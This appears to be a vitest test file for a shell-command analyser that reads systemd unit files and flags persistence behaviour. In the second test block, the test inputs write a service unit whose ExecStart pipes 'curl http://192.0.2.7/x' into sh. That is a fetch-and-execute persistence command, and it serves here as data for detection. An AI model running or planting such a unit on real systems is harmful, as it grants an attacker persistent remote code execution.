import { expect, test } from "vitest";
import { followShell, kinds } from "./support.test-support.ts";
import { startedBy } from "./written-units.ts";

test.each([
  ["[Service]\nExecStart=/opt/app/bin/app --x\n", "/opt/app/bin/app"],
  ["[Service]\nExecStart=-/opt/app/bin/app\nExecStop=+/opt/app/bin/app stop\n", "/opt/app/bin/app"],
  ["[Service]\nExecStartPre=/srv/x\nExecStart=/opt/app/bin/app\n", undefined],
  ["[Service]\nExecStart=/bin/sh -c x\n", undefined],
  ["[Service]\nExecStart=/usr/bin/env x\n", undefined],
  ["[Service]\nExecStart=app\n", undefined],
  ["[Timer]\nOnCalendar=daily\n", undefined],
])("%j starts %j", (text, program) => {
  expect(startedBy(text)).toBe(program);
});

test.each([
  [
    "printf '[Service]\\nExecStart=/bin/sh -c \"curl http://192.0.2.7/x | sh\"\\n' > /run/systemd/system/x.service",
    true,
  ],
  ["printf '[Service]\\nExecStart=/bin/sh -c \"curl http://192.0.2.7/x | sh\"\\n' > /srv/x.service", false],
  ["printf '[Service]\\nExecStart=/opt/app/bin/app\\n' > /etc/systemd/system/x.service", false],
])("%s runs what it fetches: %j", (code, runs) => {
  expect(kinds(followShell(code)).includes("fetch-to-interpreter")).toBe(runs);
});

test("what is enabled names the program that was written for it, also through its timer", () => {
  const unit = "printf '[Service]\\nExecStart=/opt/app/bin/app\\n' > /etc/systemd/system/app.service";
  const { behaviours } = followShell(`${unit}; systemctl enable app.timer`);
  expect(behaviours.find(({ says }) => /is enabled/.test(says))?.detail.starts).toBe("/opt/app/bin/app");
});
